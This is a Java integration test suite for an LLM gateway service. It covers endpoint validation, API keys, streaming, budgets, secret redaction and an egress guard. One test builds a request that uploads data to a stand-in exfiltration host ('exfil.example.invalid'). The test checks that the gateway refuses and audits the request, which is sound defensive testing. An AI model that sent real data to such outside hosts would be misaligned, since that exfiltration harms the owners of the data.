package dev.drydock.server.gateway;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.not;

import dev.drydock.server.egress.EgressGuard;
import dev.drydock.server.egress.EgressRefusedException;
import dev.drydock.server.testing.RealServices;
import dev.drydock.server.testing.Tokens;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

@QuarkusTest
@QuarkusTestResource(RealServices.class)
class GatewayApiTest {
    private static ScriptedModelServer model;

    @Inject
    EgressGuard egress;

    @BeforeAll
    static void startModel() {
        model = new ScriptedModelServer();
    }

    @AfterAll
    static void stopModel() {
        model.close();
    }

    private static String admin() {
        return Tokens.of("alice");
    }

    /** Stores an endpoint named {@code name} pointing at the scripted server. */
    private static void endpoint(String name, String clearance) {
        given().auth()
                .oauth2(admin())
                .contentType(ContentType.JSON)
                .body(Map.of(
                        "baseUrl",
                        model.baseUrl(),
                        "protocol",
                        "openai-chat",
                        "modelId",
                        "scripted-model",
                        "capabilities",
                        List.of("streaming", "tools"),
                        "costPer1kPromptTokens",
                        1,
                        "costPer1kCompletionTokens",
                        2,
                        "clearance",
                        clearance))
                .put("/api/admin/model-endpoints/" + name)
                .then()
                .statusCode(200);
    }

    private static String apiKey(String user) {
        return given().auth()
                .oauth2(Tokens.of(user))
                .contentType(ContentType.JSON)
                .body(Map.of("name", "test " + UUID.randomUUID()))
                .post("/api/me/api-keys")
                .then()
                .statusCode(201)
                .extract()
                .path("key");
    }

    /** A real session of demo started by {@code user} (no route serves its droid here, so it ends on its own). */
    private static String session(String user) {
        return given().auth()
                .oauth2(Tokens.of(user))
                .contentType(ContentType.JSON)
                .body(Map.of("workspace", "demo", "droid", "knowledge", "task", "gateway test"))
                .post("/api/sessions")
                .then()
                .statusCode(201)
                .extract()
                .path("id");
    }

    private static Map<String, Object> chatBody(String model, String text, boolean stream) {
        return Map.of("model", model, "stream", stream, "messages", List.of(Map.of("role", "user", "content", text)));
    }

    @Test
    void shouldRejectInvalidEndpointWithFieldErrors() {
        // When
        Response r = given().auth()
                .oauth2(admin())
                .contentType(ContentType.JSON)
                .body(Map.of(
                        "baseUrl",
                        "ftp//nope",
                        "protocol",
                        "grpc",
                        "modelId",
                        "m",
                        "maxConcurrency",
                        -1,
                        "secretRef",
                        "sk-live-SECRET123"))
                .put("/api/admin/model-endpoints/bad-one");

        // Then
        r.then()
                .statusCode(400)
                .contentType("application/problem+json")
                .body("type", equalTo("urn:drydock:problem:invalid-model-endpoint"))
                .body("errors.field", hasItem("baseUrl"))
                .body("errors.field", hasItem("protocol"))
                .body("errors.field", hasItem("maxConcurrency"))
                .body("errors.field", hasItem("secretRef"))
                .body(not(containsString("sk-live-SECRET123")));
    }

    @Test
    void shouldRejectTokenizerThatIsNotAnAbsolutePathOrCannotBeLoaded() {
        // When
        Response relative = given().auth()
                .oauth2(admin())
                .contentType(ContentType.JSON)
                .body(Map.of(
                        "baseUrl",
                        model.baseUrl(),
                        "protocol",
                        "openai-chat",
                        "modelId",
                        "m",
                        "tokenizer",
                        "models/tokenizer.json"))
                .put("/api/admin/model-endpoints/tok-relative");
        Response missing = given().auth()
                .oauth2(admin())
                .contentType(ContentType.JSON)
                .body(Map.of(
                        "baseUrl",
                        model.baseUrl(),
                        "protocol",
                        "openai-chat",
                        "modelId",
                        "m",
                        "tokenizer",
                        "/nonexistent/tokenizer.json"))
                .put("/api/admin/model-endpoints/tok-missing");

        // Then
        relative.then()
                .statusCode(400)
                .contentType("application/problem+json")
                .body("errors.field", hasItem("tokenizer"))
                .body("detail", containsString("absolute path"));
        missing.then()
                .statusCode(400)
                .contentType("application/problem+json")
                .body("errors.field", hasItem("tokenizer"))
                .body("detail", containsString("/nonexistent/tokenizer.json"));
    }

    @Test
    void shouldRecordTokenizerCountsWhenStoredEndpointHasTokenizerAndServerOmitsUsage(@TempDir Path dir)
            throws Exception {
        // Given
        String tokenizer = TestTokenizers.miniLm(dir).toString();
        given().auth()
                .oauth2(admin())
                .contentType(ContentType.JSON)
                .body(Map.of(
                        "baseUrl",
                        model.baseUrl(),
                        "protocol",
                        "openai-chat",
                        "modelId",
                        "scripted-model",
                        "capabilities",
                        List.of("streaming"),
                        "clearance",
                        "confidential",
                        "tokenizer",
                        tokenizer))
                .put("/api/admin/model-endpoints/api-tok")
                .then()
                .statusCode(200)
                .body("tokenizer", equalTo(tokenizer));
        String key = apiKey("mike");
        model.then(ScriptedModelServer.streamWithoutUsage("Tokenization", " works"));

        // When
        Response r = given().header("Authorization", "Bearer " + key)
                .contentType(ContentType.JSON)
                .body(chatBody("api-tok", "hello tokenizer", false))
                .post("/v1/chat/completions");

        // Then the answer's usage and the accounting row both carry the tokenizer's counts ("Tokenization works" is 3
        // word pieces)
        r.then().statusCode(200).body("usage.completion_tokens", equalTo(3));
        List<Map<String, Object>> rows = given().auth()
                .oauth2(admin())
                .get("/api/admin/model-requests?user=mike&limit=20")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getList("findAll { it.endpoint == 'api-tok' }");
        assertThat(rows)
                .singleElement()
                .satisfies(row -> assertThat(row)
                        .containsEntry("tokenSource", "tokenizer")
                        .containsEntry("completionTokens", 3)
                        .containsEntry("usageReported", false));
    }

    @Test
    void shouldStoreEndpointAndShowSecretReferenceButNeverSecret() {
        // When
        Response r = given().auth()
                .oauth2(admin())
                .contentType(ContentType.JSON)
                .body(Map.of(
                        "baseUrl",
                        model.baseUrl(),
                        "protocol",
                        "openai-chat",
                        "modelId",
                        "m",
                        "secretRef",
                        "env:DRYDOCK_MODEL_SECRET_TEST_UNSET"))
                .put("/api/admin/model-endpoints/with-secret");

        // Then
        r.then()
                .statusCode(200)
                .body("secretRef", equalTo("env:DRYDOCK_MODEL_SECRET_TEST_UNSET"))
                .body("secretConfigured", equalTo(false))
                .body("source", equalTo("api"))
                .body("breaker", equalTo("closed"))
                .body("maxConcurrency", equalTo(8));
        given().auth()
                .oauth2(admin())
                .get("/api/admin/model-endpoints")
                .then()
                .statusCode(200)
                .body("name", hasItem("with-secret"));
    }

    @Test
    void shouldForbidEndpointChangesWhenCallerIsNotAdmin() {
        // When
        Response r = given().auth()
                .oauth2(Tokens.of("mike"))
                .contentType(ContentType.JSON)
                .body(Map.of("baseUrl", model.baseUrl()))
                .put("/api/admin/model-endpoints/sneaky");

        // Then
        r.then().statusCode(403).contentType("application/problem+json");
    }

    @Test
    void shouldRejectRouteNamingUnknownEndpoint() {
        // When
        Response r = given().auth()
                .oauth2(admin())
                .contentType(ContentType.JSON)
                .body(Map.of("purpose", "plan", "endpoints", List.of("does-not-exist")))
                .put("/api/admin/model-routes/plan-route");

        // Then
        r.then()
                .statusCode(400)
                .contentType("application/problem+json")
                .body("detail", containsString("unknown endpoint 'does-not-exist'"));
    }

    @Test
    void shouldCompleteThroughRouteAndRecordRequestWhenCalledWithApiKey() {
        // Given
        endpoint("api-a", "confidential");
        given().auth()
                .oauth2(admin())
                .contentType(ContentType.JSON)
                .body(Map.of(
                        "purpose",
                        "apitest",
                        "endpoints",
                        List.of("api-a"),
                        "override",
                        Map.of("reason", "gateway API test")))
                .put("/api/admin/model-routes/apitest")
                .then()
                .statusCode(200);
        String key = apiKey("mike");
        String session = session("mike");
        model.then(ScriptedModelServer.stream("Hi", " there"));

        // When
        Response r = given().header("Authorization", "Bearer " + key)
                .header("X-Drydock-Session", session)
                .contentType(ContentType.JSON)
                .body(chatBody("apitest", "hello", false))
                .post("/v1/chat/completions");

        // Then
        r.then()
                .statusCode(200)
                .body("object", equalTo("chat.completion"))
                .body("choices[0].message.content", equalTo("Hi there"))
                .body("usage.prompt_tokens", equalTo(7))
                .body("drydock.endpoint", equalTo("api-a"));
        List<Map<String, Object>> rows = given().auth()
                .oauth2(admin())
                .get("/api/admin/model-requests?user=mike&limit=20")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getList("findAll { it.sessionId == '" + session + "' && it.endpoint == 'api-a' }");
        assertThat(rows).singleElement().satisfies(row -> {
            assertThat(row)
                    .containsEntry("outcome", "ok")
                    .containsEntry("endpoint", "api-a")
                    .containsEntry("workspace", "demo")
                    .containsEntry("channel", "v1")
                    .containsEntry("completionTokens", 2);
            assertThat((String) row.get("promptSha256")).hasSize(64);
            assertThat(String.valueOf(row.get("cost"))).isEqualTo("0.011");
        });
        String audit = given().auth()
                .oauth2(admin())
                .get("/api/admin/audit/export")
                .then()
                .statusCode(200)
                .extract()
                .asString();
        assertThat(audit).contains("model.request").contains(session).contains((String)
                rows.getFirst().get("promptSha256"));
    }

    @Test
    void shouldStreamServerSentEventsWhenStreamIsRequested() {
        // Given
        endpoint("api-stream", "confidential");
        model.then(ScriptedModelServer.stream("one", "two"));

        // When
        Response r = given().auth()
                .oauth2(Tokens.of("mike"))
                .contentType(ContentType.JSON)
                .body(chatBody("api-stream", "count", true))
                .post("/v1/chat/completions");

        // Then
        r.then().statusCode(200).contentType(containsString("text/event-stream"));
        String body = r.asString();
        assertThat(body)
                .contains("\"content\":\"one\"")
                .contains("\"content\":\"two\"")
                .contains("\"finish_reason\":\"stop\"")
                .endsWith("data: [DONE]\n\n");
    }

    @Test
    void shouldAnswerOpenAiErrorWhenModelIsUnknown() {
        // When
        Response r = given().auth()
                .oauth2(Tokens.of("mike"))
                .contentType(ContentType.JSON)
                .body(chatBody("no-such-model", "hi", false))
                .post("/v1/chat/completions");

        // Then
        r.then()
                .statusCode(404)
                .contentType(ContentType.JSON)
                .body("error.code", equalTo("model_not_found"))
                .body("error.message", containsString("no-such-model"));
    }

    @Test
    void shouldAnswer401OpenAiErrorWhenApiKeyIsWrongOrRevoked() {
        // Given
        String key = apiKey("mike");
        long id = given().auth()
                .oauth2(Tokens.of("mike"))
                .get("/api/me/api-keys")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getLong("find { it.prefix == '" + key.substring(0, 10) + "' }.id");
        given().auth()
                .oauth2(Tokens.of("mike"))
                .delete("/api/me/api-keys/" + id)
                .then()
                .statusCode(204);

        // When
        Response revoked = given().header("Authorization", "Bearer " + key).get("/v1/models");
        Response wrong =
                given().header("Authorization", "Bearer dd_wrongwrongwrong").get("/v1/models");

        // Then
        revoked.then().statusCode(401).body("error.type", equalTo("authentication_error"));
        wrong.then().statusCode(401).body("error.code", equalTo("invalid_api_key"));
    }

    @Test
    void shouldAnswerBadRequestInOpenAiShapeWhenBodyIsNotJson() {
        // When
        Response r = given().auth()
                .oauth2(Tokens.of("mike"))
                .contentType(ContentType.JSON)
                .body("{not json")
                .post("/v1/chat/completions");

        // Then
        r.then().statusCode(400).body("error.type", equalTo("invalid_request_error"));
    }

    @Test
    void shouldRefuseWhenSessionBudgetIsUsedUp() {
        // Given a 1-token budget for one session, used up by a first request
        endpoint("api-budget", "confidential");
        String session = session("mike");
        given().auth()
                .oauth2(admin())
                .contentType(ContentType.JSON)
                .body(Map.of("scope", "session", "subject", session, "period", "day", "maxTokens", 1))
                .post("/api/admin/model-budgets")
                .then()
                .statusCode(200);
        given().auth()
                .oauth2(Tokens.of("mike"))
                .header("X-Drydock-Session", session)
                .contentType(ContentType.JSON)
                .body(chatBody("api-budget", "first", false))
                .post("/v1/chat/completions")
                .then()
                .statusCode(200);

        // When
        Response r = given().auth()
                .oauth2(Tokens.of("mike"))
                .header("X-Drydock-Session", session)
                .contentType(ContentType.JSON)
                .body(chatBody("api-budget", "second", false))
                .post("/v1/chat/completions");

        // Then
        r.then()
                .statusCode(429)
                .body("error.code", equalTo("budget_exceeded"))
                .body("error.message", containsString("token budget of session"));
    }

    @Test
    void shouldRefuseRestrictedContentForInternalEndpoint() {
        // Given
        endpoint("api-internal", "internal");
        int before = model.chatCount();

        // When
        Response r = given().auth()
                .oauth2(Tokens.of("mike"))
                .header("X-Drydock-Classification", "secret")
                .contentType(ContentType.JSON)
                .body(chatBody("api-internal", "secret plans", false))
                .post("/v1/chat/completions");

        // Then
        r.then().statusCode(403).body("error.code", equalTo("classification_refused"));
        assertThat(model.chatCount()).isEqualTo(before);
    }

    @Test
    void shouldRedactSecretsInPromptBeforeItLeaves() {
        // Given
        endpoint("api-dlp", "confidential");
        String token = "ghp_" + "a".repeat(36);

        // When
        given().auth()
                .oauth2(Tokens.of("mike"))
                .contentType(ContentType.JSON)
                .body(chatBody("api-dlp", "use token " + token, false))
                .post("/v1/chat/completions")
                .then()
                .statusCode(200);

        // Then
        assertThat(model.requests().getLast()).doesNotContain(token).contains("[REDACTED:github-token]");
    }

    @Test
    void shouldAnswerNotFoundWhenCallerIsOutsideTheWorkspace() {
        // When
        Response r = given().auth()
                .oauth2(Tokens.of("mike"))
                .header("X-Drydock-Workspace", "other")
                .contentType(ContentType.JSON)
                .body(chatBody("auto", "hi", false))
                .post("/v1/chat/completions");

        // Then
        r.then()
                .statusCode(404)
                .body("error.code", equalTo("not_found"))
                .body("error.message", equalTo("Workspace 'other' does not exist or you may not see it."));
    }

    @Test
    void shouldRefuseAndAuditRequestToUnlistedHost() throws Exception {
        // Given
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://exfil.example.invalid/upload?data=x"))
                .GET()
                .build();

        // When
        var thrown = assertThatThrownBy(() -> egress.send(
                request, HttpResponse.BodyHandlers.discarding(), Duration.ofSeconds(1), "integration test"));

        // Then
        thrown.isInstanceOf(EgressRefusedException.class).hasMessageContaining("exfil.example.invalid");
        given().auth()
                .oauth2(admin())
                .get("/api/admin/egress-refusals")
                .then()
                .statusCode(200)
                .body("host", hasItem("exfil.example.invalid"))
                .body("url", hasItem("http://exfil.example.invalid/upload"));
        given().auth()
                .oauth2(admin())
                .get("/api/admin/audit/export")
                .then()
                .statusCode(200)
                .body(containsString("egress.refused"))
                .body(containsString("exfil.example.invalid"));
    }

    @Test
    void shouldCloseUpstreamConnectionWhenFrontDoorClientDisconnects() throws Exception {
        // Given a model that keeps its stream open, and a client streaming through the front door
        try (ScriptedModelServer stalling = new ScriptedModelServer().otherwise(new ScriptedModelServer.Stall(true))) {
            given().auth()
                    .oauth2(admin())
                    .contentType(ContentType.JSON)
                    .body(Map.of(
                            "baseUrl",
                            stalling.baseUrl(),
                            "protocol",
                            "openai-chat",
                            "modelId",
                            "m",
                            "capabilities",
                            List.of("streaming"),
                            "clearance",
                            "confidential"))
                    .put("/api/admin/model-endpoints/api-stall")
                    .then()
                    .statusCode(200);
            java.net.http.HttpClient client = java.net.http.HttpClient.newHttpClient();
            HttpRequest request = HttpRequest.newBuilder(
                            URI.create("http://localhost:" + io.restassured.RestAssured.port + "/v1/chat/completions"))
                    .header("Authorization", "Bearer " + Tokens.of("mike"))
                    .header("Content-Type", "application/json")
                    .POST(
                            HttpRequest.BodyPublishers.ofString(
                                    "{\"model\":\"api-stall\",\"stream\":true,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}"))
                    .build();
            var pending = client.sendAsync(request, HttpResponse.BodyHandlers.ofInputStream());
            assertThat(stalling.awaitStall(30)).as("request reached the model").isTrue();

            // When
            pending.cancel(true);
            client.shutdownNow();

            // Then
            assertThat(stalling.awaitClientGone(30))
                    .as("gateway closed the upstream connection")
                    .isTrue();
        }
    }
}
